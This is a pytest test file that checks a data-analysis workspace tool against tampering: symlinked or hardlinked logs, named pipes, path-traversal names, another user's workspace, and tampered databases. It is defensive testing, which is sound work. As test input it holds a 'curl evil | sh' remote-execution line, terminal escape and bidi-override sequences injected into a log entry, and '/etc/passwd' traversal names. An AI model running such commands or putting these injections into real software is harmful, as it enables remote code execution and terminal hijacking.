"""A workspace that a stranger made: nothing outside it is read, written or removed, and another user's is only looked at."""

from __future__ import annotations

import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from sfumato.tui.session.state import AppState, load_state, save_state
from sfumato.workspace import audit, plain_files
from sfumato.workspace.errors import DamagedTable, NotAWorkspace, NotYours, StrangeFile, WorkspaceError
from sfumato.workspace.jobs.worker import run_worker, start_worker, worker_log_path
from sfumato.workspace.release.report import write_report
from sfumato.workspace.service.deletion import delete_project, delete_run
from sfumato.workspace.store.run_log import append_to_run_log, run_log_path
from sfumato.workspace.store.runs import find_run
from sfumato.workspace.store.workspace import Workspace
from sfumato.workspace.upkeep.adopting import adopt_workspace
from sfumato.workspace.upkeep.maintenance import check_workspace_health, remove_orphans

Enter = Callable[..., int]


def tampered(workspace: Workspace, statement: str, *values: object) -> None:
    """Change the database as a stranger would, with no foreign keys in the way."""
    workspace.close()
    connection = sqlite3.connect(workspace.directory / "workspace.db")
    connection.execute(statement, values)
    connection.commit()
    connection.close()


def ended(workspace: Workspace, run_id: int) -> None:
    tampered(workspace, "UPDATE run SET state = 'cancelled' WHERE id = ?", run_id)


@pytest.fixture
def unrelated_file(tmp_path: Path) -> Path:
    """A file of the user's own, which no workspace has any business with."""
    path = tmp_path / "profile"
    path.write_text("export PATH\n", "utf-8")
    os.utime(path, (1, 1))
    return path


def test_a_log_that_is_a_link_is_not_written_through(workspace: Workspace, unrelated_file: Path) -> None:
    run_log_path(workspace.directory, 3).parent.mkdir()
    run_log_path(workspace.directory, 3).symlink_to(unrelated_file)
    append_to_run_log(workspace.directory, 3, "touch /tmp/owned")
    assert unrelated_file.read_text("utf-8") == "export PATH\n"


def test_a_log_that_is_another_name_of_a_file_is_not_written(workspace: Workspace, unrelated_file: Path) -> None:
    run_log_path(workspace.directory, 3).parent.mkdir()
    run_log_path(workspace.directory, 3).hardlink_to(unrelated_file)
    append_to_run_log(workspace.directory, 3, "touch /tmp/owned")
    assert unrelated_file.read_text("utf-8") == "export PATH\n"


def test_an_own_log_is_written(workspace: Workspace) -> None:
    """The control of the two above."""
    append_to_run_log(workspace.directory, 3, "done")
    assert run_log_path(workspace.directory, 3).read_text("utf-8").endswith(" done\n")
    assert run_log_path(workspace.directory, 3).stat().st_mode & 0o777 == 0o600


def test_a_task_key_with_a_line_of_its_own_stays_within_its_entry(workspace: Workspace) -> None:
    append_to_run_log(workspace.directory, 3, "fit/0\ncurl evil | sh\n\x1b]52;c;bm8=\x07\u202e done")
    lines = run_log_path(workspace.directory, 3).read_text("utf-8").splitlines()
    assert lines[0][:2] == "20"
    assert all(line.startswith(" ") for line in lines[1:])
    assert not {"\x1b", "\x07", "\u202e"} & set("".join(lines))


@pytest.mark.parametrize("name", ["tables", "logs"])
def test_a_directory_that_is_a_link_is_refused(workspace: Workspace, tmp_path: Path, name: str) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "thesis.txt").write_text("years", "utf-8")
    os.utime(elsewhere / "thesis.txt", (1, 1))
    (workspace.directory / name).symlink_to(elsewhere)
    with pytest.raises(StrangeFile, match="is a link; it is left alone"):
        Workspace.open(workspace.directory)
    with pytest.raises(StrangeFile):
        remove_orphans(workspace)
    with pytest.raises(StrangeFile):
        start_worker(workspace.directory) if name == "logs" else workspace.tables.remove_unfinished()
    assert any(
        check.state == "problem" and "is a link" in check.text for check in check_workspace_health(workspace.directory)
    )
    assert [path.name for path in elsewhere.iterdir()] == ["thesis.txt"]


def test_doctor_removes_what_no_run_needs_within_the_workspace_alone(
    workspace: Workspace, unrelated_file: Path
) -> None:
    workspace.tables.directory.mkdir()
    left, link, inner = (workspace.tables.directory / name for name in ("old.parquet", "link", "inner"))
    left.write_bytes(b"")
    link.symlink_to(unrelated_file)
    inner.mkdir()
    for path in (left, link, inner):
        os.utime(path, (1, 1), follow_symlinks=False)
    assert remove_orphans(workspace) == 2
    assert unrelated_file.exists()
    assert not left.exists()


@pytest.mark.parametrize("how", [delete_run, delete_project])
def test_deleting_removes_no_file_that_a_stored_name_points_to(
    workspace: Workspace, enter: Enter, unrelated_file: Path, how: Callable[[Workspace, int], int]
) -> None:
    run_id = enter()
    ended(workspace, run_id)
    target = unrelated_file.with_suffix(".parquet")
    unrelated_file.rename(target)
    tampered(workspace, "INSERT INTO artefact VALUES (?, 'x', ?)", run_id, str(target.with_suffix("")))
    how(workspace, 1)
    assert target.exists()


@pytest.mark.parametrize("name", ["../secret", "/etc/passwd", "A" * 64, "a" * 63, "a" * 64 + "\n", "", b"a" * 64])
def test_no_name_but_a_hash_becomes_a_path(workspace: Workspace, name: str) -> None:
    with pytest.raises(DamagedTable, match="something else than the SHA-256"):
        workspace.tables.path_of(name)


def test_a_table_that_is_a_link_or_a_pipe_is_not_read(workspace: Workspace, enter: Enter, unrelated_file: Path) -> None:
    run_id = enter()
    sha256 = workspace.find_dataset(find_run(workspace, run_id).dataset_id).table_sha256
    path = workspace.tables.path_of(sha256)
    path.rename(unrelated_file)
    path.symlink_to(unrelated_file)
    for read in (workspace.tables.read_stored_table, workspace.tables.count_table_records):
        with pytest.raises(DamagedTable, match="is a link"):
            read(sha256)
    path.unlink()
    os.mkfifo(path)
    for read in (workspace.tables.read_stored_table, workspace.tables.count_table_records):
        with pytest.raises(DamagedTable, match="is a named pipe"):
            read(sha256)


@pytest.mark.parametrize("name", ["workspace.db-wal", "workspace.db-journal", "audit.head", "app-state.json"])
def test_a_file_of_the_workspace_that_is_a_link_or_a_pipe_is_refused(
    workspace: Workspace, unrelated_file: Path, name: str
) -> None:
    workspace.close()
    path = workspace.directory / name
    path.unlink(missing_ok=True)
    path.symlink_to(unrelated_file)
    with pytest.raises(StrangeFile, match="is a link"):
        Workspace.open(workspace.directory)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(StrangeFile, match="is a named pipe"):
        Workspace.open(workspace.directory)
    assert load_state(workspace.directory) == AppState()
    assert audit.read_head_file(workspace.directory) is None or name != "audit.head"


def test_the_state_of_the_app_follows_no_link_that_waits_for_it(workspace: Workspace, unrelated_file: Path) -> None:
    (workspace.directory / f"app-state.json.{os.getpid()}").symlink_to(unrelated_file)
    save_state(workspace.directory, AppState(tab="data"))
    assert unrelated_file.read_text("utf-8") == "export PATH\n"
    assert load_state(workspace.directory).tab == "data"


@pytest.fixture
def strangers(workspace: Workspace, enter: Enter, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace with a run, which belongs to another user from now on."""
    enter()
    workspace.close()
    mine = os.geteuid()
    monkeypatch.setattr(plain_files.os, "geteuid", lambda: mine + 1)
    return workspace.directory


def contents(directory: Path) -> dict[str, bytes]:
    return {str(path): path.read_bytes() for path in sorted(directory.rglob("*")) if path.is_file()}


def test_another_users_workspace_can_be_looked_at(strangers: Path) -> None:
    before = contents(strangers)
    with Workspace.open(strangers) as workspace:
        assert workspace.owner
        assert find_run(workspace, "last").title == "Small study"
        assert len(workspace.read_stored_dataset(workspace.find_dataset(1)).frame) == 80
    assert any("only looked at" in check.text for check in check_workspace_health(strangers))
    save_state(strangers, AppState(tab="data"))
    assert contents(strangers) == before


def test_nothing_is_written_or_computed_in_another_users_workspace(strangers: Path, tmp_path: Path) -> None:
    before = contents(strangers)
    with Workspace.open(strangers) as workspace:
        with pytest.raises(NotYours, match="sfumato adopt"), workspace.write_transaction():
            pass
        with pytest.raises(NotYours):
            workspace.tables.write_arrays({})
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            workspace.connection.execute("UPDATE run SET title = ''")
        with pytest.raises(NotYours):
            write_report(workspace, 1, tmp_path / "report.html")
        for act in (delete_run, delete_project):
            with pytest.raises(NotYours):
                act(workspace, 1)
    with pytest.raises(NotYours):
        start_worker(strangers)
    with pytest.raises(NotYours):
        run_worker(strangers, idle=0)
    assert contents(strangers) == before
    assert not worker_log_path(strangers).exists()
    assert not (tmp_path / "report.html").exists()


def test_an_adopted_workspace_is_a_checked_copy_in_which_nothing_goes_on(
    workspace: Workspace, enter: Enter, tmp_path: Path
) -> None:
    enter()
    workspace.close()
    before = contents(workspace.directory)
    done = adopt_workspace(workspace.directory, tmp_path / "mine")
    assert (done.runs, done.stopped) == (1, 1)
    assert contents(workspace.directory) == before
    with Workspace.open(tmp_path / "mine") as copy:
        assert find_run(copy, 1).state.value == "interrupted"
        assert len(copy.read_stored_dataset(copy.find_dataset(1)).frame) == 80
        rows, wrong = audit.verify_audit_log(copy.connection, copy.directory)
        assert not wrong
        assert [row.act for row in rows[-2:]] == ["workspace adopted", "key made"]
        assert len(copy.read_workspace_key()) == 32
    modes = {path.stat().st_mode & 0o077 for path in (tmp_path / "mine").rglob("*")}
    assert modes == {0}


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE dataset SET table_sha256 = '../../x'",
        f"UPDATE dataset SET table_sha256 = '{'0' * 64}'",
        "UPDATE audit_head SET hash = 'x'",
        "CREATE TRIGGER t AFTER INSERT ON run BEGIN UPDATE run SET title = 'x'; END",
    ],
)
def test_what_does_not_hold_is_not_adopted(workspace: Workspace, enter: Enter, tmp_path: Path, statement: str) -> None:
    enter()
    tampered(workspace, statement)
    with pytest.raises(WorkspaceError):
        adopt_workspace(workspace.directory, tmp_path / "mine")
    assert not (tmp_path / "mine").exists()


def test_a_workspace_is_adopted_into_a_new_directory_alone(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "full").mkdir()
    with pytest.raises(NotAWorkspace, match="exists already"):
        adopt_workspace(workspace.directory, tmp_path / "full")
